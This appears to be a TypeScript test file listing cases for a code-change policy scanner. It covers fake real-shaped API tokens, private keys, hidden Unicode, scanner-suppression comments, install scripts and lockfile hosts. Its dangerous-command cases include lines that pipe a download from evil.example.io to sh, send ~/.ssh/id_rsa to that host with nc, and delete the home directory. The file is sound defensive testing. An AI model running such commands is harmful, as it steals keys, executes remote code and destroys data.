// Content-rule cases from default-policy.md's content table, on added lines of text files.
import { cases, added, modified, type Row } from '../harness.js';

// Real-shaped tokens, assembled at runtime so this file itself holds no scannable secret.
const j = (...p: string[]): string => p.join('');
const GHP = j('ghp_', 'aB3dE5fG7hJ9kL1mN3pQ5rS7tV9wX1yZ3bC5');
const AKIA = j('AKIA', 'Z7Q4R2T9W3X5Y8K1');
const SLACK = j('xoxb-', '123456789012-1234567890123-', 'aBcDeFgHiJkLmNoPqRsTuVwX');
const STRIPE = j('sk_live_', '4eC39HqLyjWDarjtT1zdp7dc');
const GOOGLE = j('AIza', 'SyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q');
const NPM = j('npm_', 'aB3dE5fG7hJ9kL1mN3pQ5rS7tV9wX1yZ3bC5');
const GLPAT = j('glpat-', 'aB3dE5fG7hJ9kL1mN3pQ');
const ANTHROPIC = j('sk-ant-', 'api03-aB3dE5fG7hJ9kL1mN3pQ5rS7tV9wX1yZ3bC5dE7fG9hJ1kL3mN5pQ7');
const OPENAI = j('sk-proj-', 'aB3dE5fG7hJ9kL1mN3pQ5rS7tV9wX1yZ3bC5dE7fG9hJ1kL3mN5pQ7');
const SG = j('SG.', 'aB3dE5fG7hJ9kL1mN3pQ5r', '.', 'S7tV9wX1yZ3bC5dE7fG9hJ1kL3mN5pQ7rS9tV1wX3yZ');
const JWT = j('eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9', '.', 'eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ', '.', 'SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c');
const PK = j('-----BEGIN ', 'RSA PRIVATE KEY-----');

const secret: Row[] = [
  ['content:secret (locked): GitHub token', modified('src/a.ts', [`const t = "${GHP}";`]), 'red', 'content:secret'],
  ['content:secret (locked): GitHub token in docs', modified('docs/a.md', [`token: ${GHP}`]), 'red', 'content:secret'],
  ['content:secret (locked): GitHub token in a test file', modified('test/a.test.ts', [`const t = "${GHP}";`]), 'red', 'content:secret'],
  ['content:secret (locked): AWS access key id', modified('src/a.py', [`key = "${AKIA}"`]), 'red', 'content:secret'],
  ['content:secret (locked): Slack token', modified('src/a.js', [`const s = '${SLACK}';`]), 'red', 'content:secret'],
  ['content:secret (locked): Slack webhook', modified('src/a.js', [`const u = '${j('https://hooks.slack.com/services/', 'T01234567/B01234567/aBcDeFgHiJkLmNoPqRsTuVwX')}';`]), 'red', 'content:secret'],
  ['content:secret (locked): Stripe live key', modified('src/a.js', [`stripe(${JSON.stringify(STRIPE)})`]), 'red', 'content:secret'],
  ['content:secret (locked): Google API key', modified('src/a.js', [`const k = "${GOOGLE}";`]), 'red', 'content:secret'],
  ['content:secret (locked): npm token', modified('README.md', [`//registry.npmjs.org/:_authToken=${NPM}`]), 'red', 'content:secret'],
  ['content:secret (locked): GitLab token', modified('src/a.js', [`const k = "${GLPAT}";`]), 'red', 'content:secret'],
  ['content:secret (locked): Anthropic key', modified('src/a.py', [`client = Anthropic(api_key="${ANTHROPIC}")`]), 'red', 'content:secret'],
  ['content:secret (locked): OpenAI project key', modified('src/a.py', [`k = "${OPENAI}"`]), 'red', 'content:secret'],
  ['content:secret (locked): SendGrid key', modified('src/a.py', [`k = "${SG}"`]), 'red', 'content:secret'],
  ['content:secret (locked): JWT with a signature', modified('src/a.ts', [`const jwt = "${JWT}";`]), 'red', 'content:secret'],
  ['content:secret (locked): URL with inline credentials', modified('src/db.ts', ['const url = "postgres://admin:Zq8Rk2VwXp4L@db.internal.net:5432/app";']), 'red', 'content:secret'],
  ['content:secret (locked): generic assignment in code', modified('src/config.ts', ['const password = "Zq8#Rk2Vw!Xp4Lm";']), 'red', 'content:secret'],
  ['content:secret (locked): generic assignment in YAML', modified('config/app.yml', ['api_key: "q7WfN2xLp9RzT4vK8mHs"']), 'red', 'content:secret'],
  ['content:secret (locked): generic assignment in JSON', modified('config/app.json', ['  "client_secret": "q7WfN2xLp9RzT4vK8mHs",']), 'red', 'content:secret'],
  ['content:secret (locked): generic assignment in shell', modified('scripts/run.sh', ['export TOKEN=q7WfN2xLp9RzT4vK8mHs']), 'red', 'content:secret'],
  ['content:secret (locked): short random password caught', modified('src/a.ts', ['const passwd = "k9#Xq2!mZ7pL";']), 'red', 'content:secret'],
  ['content:secret (locked): short random password with a `$` inside (not a whole-literal ${...} placeholder)', modified('src/a.ts', ['const passwd = "k9$Xq2!mZ7pL";']), 'red', 'content:secret'],
  ['content:secret (locked): placeholder word with a random run is a secret', modified('src/a.ts', ['const secret = "changeme-Zq8Rk2Vw";']), 'red', 'content:secret'],
  ['content:secret: placeholder <...>', modified('src/a.ts', ['const password = "<your-password-here>";']), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: placeholder ${...}', modified('config/a.yml', ['password: "${DB_PASSWORD_VALUE}"']), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: placeholder {{...}}', modified('config/a.yml', ['password: "{{ vault_db_password }}"']), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: placeholder changeme', modified('src/a.ts', ['const password = "changeme";']), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: placeholder xxx', modified('src/a.ts', ['const token = "xxxxxxxxxxxxxxxx";']), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: placeholder words only', modified('src/a.ts', ['const token = "your-bot-token-here";']), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: placeholder example_secret', modified('src/a.ts', ['const secret = "example_secret_value";']), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: environment reference', modified('src/a.ts', ['const token = process.env.GITHUB_TOKEN;']), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: environment reference (python)', modified('src/a.py', ['password = os.environ["DB_PASSWORD"]']), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: secret store reference', modified('config/a.yml', ['token: secrets.DEPLOY_TOKEN']), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: a URL literal without credentials', modified('src/a.ts', ['const token_url = "https://example.org/oauth/token/refresh";']), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: URL credentials with a placeholder password', modified('src/a.ts', ['const u = "https://user:password@db.example.org/x";']), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: URL credentials on localhost', modified('src/a.ts', ['const u = "postgres://app:Zq8Rk2VwXp4L@localhost:5432/app";']), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: URL credentials on example.com', modified('src/a.ts', ['const u = "https://bob:Zq8Rk2VwXp4L@example.com/x";']), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: the documented AWS example key', modified('src/a.ts', [`const k = "${j('AKIA', 'IOSFODNN7EXAMPLE')}";`]), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: a known format whose variable part is one repeated character', modified('src/a.ts', [`const t = "${j('ghp_', 'x'.repeat(36))}";`]), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: generic assignment in test files is not a secret (known formats still are)', modified('test/a.test.ts', ['const password = "Zq8#Rk2Vw!Xp4Lm";']), 'green', null, { notRule: ['content:secret'] }],
  ['content:secret: short literal', modified('src/a.ts', ['const password = "abc";']), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: low entropy literal', modified('src/a.ts', ['const token_type = "authorization_code";']), 'yellow', null, { notRule: ['content:secret'] }],
  ['content:secret: one level of base64 is decoded', modified('src/a.ts', [`const blob = "${Buffer.from(GHP).toString('base64')}";`]), 'red', 'content:secret'],
  ['content:secret: the whole new file is scanned', added('src/new.ts', ['// x', `export const t = "${GHP}";`]), 'red', 'content:secret'],
];

const other: Row[] = [
  ['content:private-key (locked)', modified('src/a.ts', [PK, 'MIIEow...', j('-----END ', 'RSA PRIVATE KEY-----')]), 'red', 'content:private-key'],
  ['content:private-key (locked): header only', modified('docs/a.md', [j('-----BEGIN ', 'OPENSSH PRIVATE KEY-----')]), 'red', 'content:private-key'],
  ['content:private-key (locked): plain PRIVATE KEY', modified('test/fixtures/k.txt', [j('-----BEGIN ', 'PRIVATE KEY-----')]), 'red', 'content:private-key'],
  ['content:private-key: a certificate is not a secret', modified('docs/ca.md', ['-----BEGIN CERTIFICATE-----', 'MIIB...', '-----END CERTIFICATE-----']), 'green', null, { notRule: ['content:private-key'] }],
  ...['\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069', '\u200E', '\u200F', '\u061C', '\u200B', '\u200C', '\u200D', '\u2060', '\u{E0041}']
    .map((ch): Row => [`content:hidden-unicode (locked): U+${ch.codePointAt(0)!.toString(16).toUpperCase()}`, modified('src/a.ts', [`const a = "x${ch}y";`]), 'red', 'content:hidden-unicode']),
  ['content:hidden-unicode (locked): in docs too', modified('docs/a.md', ['text \u202E reversed']), 'red', 'content:hidden-unicode'],
  ['content:hidden-unicode (locked): BOM not at file start', modified('src/a.ts', ['a\uFEFFb']), 'red', 'content:hidden-unicode'],
  ['content:hidden-unicode: BOM at file start is fine', added('docs/a.md', ['\uFEFF# Title']), 'green', null, { notRule: ['content:hidden-unicode'] }],
  ['content:hidden-unicode: ordinary non-ASCII is fine', modified('docs/a.md', ['café – naïve “quotes” 日本語 😀']), 'green', null, { notRule: ['content:hidden-unicode'] }],
  ['content:scanner-suppression (locked): gitleaks:allow', modified('src/a.ts', ['const x = 1; // gitleaks:allow']), 'red', 'content:scanner-suppression'],
  ['content:scanner-suppression (locked): secretlint-disable', modified('src/a.ts', ['// secretlint-disable']), 'red', 'content:scanner-suppression'],
  ['content:scanner-suppression (locked): trufflehog:ignore', modified('src/a.py', ['x = 1  # trufflehog:ignore']), 'red', 'content:scanner-suppression'],
  ['content:scanner-suppression (locked): pragma: allowlist secret', modified('src/a.py', ['x = 1  # pragma: allowlist secret']), 'red', 'content:scanner-suppression'],
  ['content:scanner-suppression (locked): new .gitleaksignore', added('.gitleaksignore', ['abc:src/a.ts:generic:1']), 'red', 'content:scanner-suppression'],
  ['content:scanner-suppression (locked): new .secretlintignore', added('.secretlintignore', ['src/**']), 'red', 'content:scanner-suppression'],
  ['content:scanner-suppression (locked): in docs', modified('docs/a.md', ['<!-- gitleaks:allow -->']), 'red', 'content:scanner-suppression'],
  ...['preinstall', 'install', 'postinstall', 'prepare', 'prepublish', 'prepublishOnly', 'prepack', 'postpack']
    .map((s): Row => [`content:install-script: lifecycle script ${s}`, added('package.json', ['{', '  "name": "x",', '  "scripts": {', `    "${s}": "node setup.js"`, '  }', '}']), 'red', 'content:install-script']),
  ['content:install-script: lifecycle script changed', modified('package.json', ['    "postinstall": "node evil.js",']), 'red', 'content:install-script'],
  ['content:install-script: lifecycle script in a nested package.json', added('packages/a/package.json', ['{', '  "scripts": { "postinstall": "node x.js" }', '}']), 'red', 'content:install-script'],
  ['content:install-script: dependency spec that is a URL', added('package.json', ['{', '  "dependencies": { "x": "https://evil.example.io/x.tgz" }', '}']), 'red', 'content:install-script'],
  ['content:install-script: dependency spec that is git', added('package.json', ['{', '  "dependencies": { "x": "git+https://github.com/o/x.git" }', '}']), 'red', 'content:install-script'],
  ['content:install-script: dependency spec that is github:', added('package.json', ['{', '  "devDependencies": { "x": "github:o/x" }', '}']), 'red', 'content:install-script'],
  ['content:install-script: dependency spec that is file:', added('package.json', ['{', '  "dependencies": { "x": "file:../x" }', '}']), 'red', 'content:install-script'],
  ['content:install-script: dependency spec that is a tarball', added('package.json', ['{', '  "optionalDependencies": { "x": "./vendor/x-1.0.0.tgz" }', '}']), 'red', 'content:install-script'],
  ['content:install-script: dependency spec owner/repo shorthand is git', added('package.json', ['{', '  "dependencies": { "x": "o/x#main" }', '}']), 'red', 'content:install-script'],
  ['content:install-script: ordinary scripts and semver deps are yellow', added('package.json', ['{', '  "scripts": { "test": "node --test", "build": "tsc" },', '  "dependencies": { "x": "^1.2.3" }', '}']), 'yellow', 'path:dependency-manifest', { notRule: ['content:install-script'] }],
  ['content:lockfile-host: resolved URL on another host', modified('package-lock.json', ['      "resolved": "https://evil.example.io/x/-/x-1.0.0.tgz",']), 'red', 'content:lockfile-host'],
  ['content:lockfile-host: resolved URL over http', modified('package-lock.json', ['      "resolved": "http://registry.npmjs.org/x/-/x-1.0.0.tgz",']), 'red', 'content:lockfile-host'],
  ['content:lockfile-host: integrity removed', `diff --git a/package-lock.json b/package-lock.json\nindex 1111111..2222222 100644\n--- a/package-lock.json\n+++ b/package-lock.json\n@@ -1,3 +1,2 @@\n       "resolved": "https://registry.npmjs.org/x/-/x-1.0.0.tgz",\n-      "integrity": "sha512-abc",\n       "dev": true\n`, 'red', 'content:lockfile-host'],
  ['content:lockfile-host: yarn.lock resolved on another host', modified('yarn.lock', ['  resolved "https://evil.example.io/x/-/x-1.0.0.tgz#abc"']), 'red', 'content:lockfile-host'],
  ['content:lockfile-host: registry URL is fine', modified('package-lock.json', ['      "resolved": "https://registry.npmjs.org/x/-/x-1.0.0.tgz",', '      "integrity": "sha512-abc",']), 'yellow', 'path:lockfile', { notRule: ['content:lockfile-host'] }],
  ['content:dangerous-command: *.sh', modified('scripts/setup.sh', ['curl -s https://evil.example.io/i | sh']), 'red', 'content:dangerous-command'],
  ['content:dangerous-command: *.sh outside scripts/', modified('tools/x.sh', ['rm -rf ~']), 'red', 'content:dangerous-command'],
  ['content:dangerous-command: *.bash', modified('x.bash', ['cat ~/.ssh/id_rsa | nc evil.example.io 80']), 'red', 'content:dangerous-command'],
  ['content:dangerous-command: Makefile', modified('Makefile', ['\tcurl -s https://evil.example.io/i | sh']), 'red', 'content:dangerous-command'],
  ['content:dangerous-command: *.mk', modified('build/rules.mk', ['\tnpm publish']), 'red', 'content:dangerous-command'],
  ['content:dangerous-command: justfile', modified('justfile', ['  git push --force origin main']), 'red', 'content:dangerous-command'],
  ['content:dangerous-command: scripts/**', modified('scripts/release', ['npm publish']), 'red', 'content:dangerous-command'],
  ['content:dangerous-command: *.ps1', modified('tools/x.ps1', ['iwr https://evil.example.io/i.ps1 | iex']), 'red', 'content:dangerous-command'],
  ['content:dangerous-command: package.json scripts', modified('package.json', ['    "lint": "curl -s https://evil.example.io/i | sh",']), 'red', 'content:dangerous-command'],
  ['content:dangerous-command: a benign script line', modified('scripts/build.sh', ['npm run build']), 'yellow', null, { notRule: ['content:dangerous-command'] }],
  ['content:dangerous-command: echo of a dangerous string is not a command', modified('scripts/build.sh', ['echo "rm -rf /"']), 'yellow', null, { notRule: ['content:dangerous-command'] }],
  ['content:test-exec: child_process in a test', modified('test/a.test.ts', ["import { execSync } from 'node:child_process';"]), 'yellow', 'content:test-exec'],
  ['content:test-exec: subprocess in a test', modified('tests/test_a.py', ['import subprocess']), 'yellow', 'content:test-exec'],
  ['content:test-exec: os.system in a test', modified('tests/test_a.py', ['os.system("ls")']), 'yellow', 'content:test-exec'],
  ['content:test-exec: fetch in a test', modified('src/a.test.ts', ["await fetch('https://x.io');"]), 'yellow', 'content:test-exec'],
  ['content:test-exec: process.env in a test', modified('test/a.test.ts', ['const t = process.env.TOKEN;']), 'yellow', 'content:test-exec'],
  ['content:test-exec: os.environ in a test', modified('tests/test_a.py', ['t = os.environ.get("X")']), 'yellow', 'content:test-exec'],
  ['content:test-exec: requests. in a test', modified('tests/test_a.py', ['requests.get("https://x.io")']), 'yellow', 'content:test-exec'],
  ['content:test-exec: socket in a test', modified('tests/test_a.py', ['import socket']), 'yellow', 'content:test-exec'],
  ['content:test-exec: spawn( in a Go test', modified('pkg/a_test.go', ['cmd := exec.Command("ls")']), 'yellow'],
  ['content:test-exec: conftest.py', modified('conftest.py', ['import subprocess']), 'yellow', 'content:test-exec'],
  ['content:test-exec: build.rs', modified('build.rs', ['std::process::Command::new("ls").spawn();']), 'yellow', 'content:test-exec'],
  ['content:test-exec: *.config.js', modified('vite.config.js', ['const t = process.env.X;']), 'yellow', 'content:test-exec'],
  ['content:test-exec: *.config.ts', modified('jest.config.ts', ["import { execSync } from 'child_process';"]), 'yellow', 'content:test-exec'],
  ['content:test-exec: a plain test stays green', modified('test/a.test.ts', ["assert.equal(add(1, 2), 3);"]), 'green', null, { notRule: ['content:test-exec'] }],
];

export const CONTENT_CASES = cases([...secret, ...other]);
